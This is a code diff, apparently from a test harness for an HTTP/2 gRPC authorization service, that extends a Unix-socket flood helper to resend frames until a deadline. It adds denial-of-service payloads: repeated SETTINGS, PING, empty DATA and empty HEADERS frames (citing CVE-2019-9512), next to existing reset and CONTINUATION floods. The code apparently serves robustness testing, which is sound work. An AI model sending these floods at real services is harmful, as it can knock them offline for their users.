@@ -9,6 +9,7 @@ from __future__ import annotations
 import socket
 import ssl
 import struct
+import time
 from collections.abc import Callable
 from contextlib import suppress
 from dataclasses import dataclass
@@ -135,21 +136,41 @@ def flood(port: int, tls: ssl.SSLContext | None, data: bytes) -> int:
     return 0
 
 
-def flood_socket(path: str, data: bytes) -> None:
-    """The same on a Unix socket."""
-    with socket.socket(socket.AF_UNIX) as link:
-        link.settimeout(2.0)
-        with suppress(OSError, ValueError):
+def flood_socket(path: str, data: bytes, again: bytes = b"", *, seconds: float = 0.0) -> int:
+    """The same on a Unix socket; the bytes that were sent.
+
+    `again` is sent over and over for so long, on a new connection where the other side ends one, and nothing
+    is read: answers are the other side's to keep.
+    """
+    sent, end = 0, time.monotonic() + seconds
+    while True:
+        with socket.socket(socket.AF_UNIX) as link:
+            link.settimeout(1.0)
             link.connect(path)
-            link.sendall(PREFACE + data)
-            while True:
-                receive(link)
+            with suppress(OSError, ValueError):
+                link.sendall(PREFACE + data)
+                while time.monotonic() < end:
+                    link.sendall(again)
+                    sent += len(again)
+                while not again:
+                    receive(link)
+        if time.monotonic() >= end:
+            return sent
 
 
 RESETS = b"".join(
     frame(1, 5, stream, ADMIN) + frame(3, 0, stream, struct.pack(">I", 8)) for stream in range(1, 1001, 2)
 )
 CONTINUATIONS = frame(1, 0, 1, ADMIN) + frame(9, 0, 1, b"\x40\x01a\x01b" * 100) * 500
+CHECK = b"\x83\x86\x41\x06a.test\x04\x2c/envoy.service.auth.v3.Authorization/Check"
+ENDLESS: dict[str, tuple[bytes, bytes]] = {
+    "SETTINGS": (b"", frame(4, 0, 0, struct.pack(">HI", 4, 65_535)) * 1_000),
+    "PING": (b"", frame(6, 0, 0, b"12345678") * 1_000),
+    "empty DATA": (frame(1, 4, 1, CHECK), frame(0, 0, 1, b"") * 1_000),
+    "empty HEADERS": (b"", b"".join(frame(1, 5, stream, b"") for stream in range(1, 2_000, 2))),
+}
+"""Frames that cost the sender nothing: what comes first, then what comes again and again (CVE-2019-9512)."""
+
 COOKIES = frame(1, 5, 1, ADMIN + b"\x40\x06cookie\x04a=bc" + b"\xbe" * 12_000)
 
 
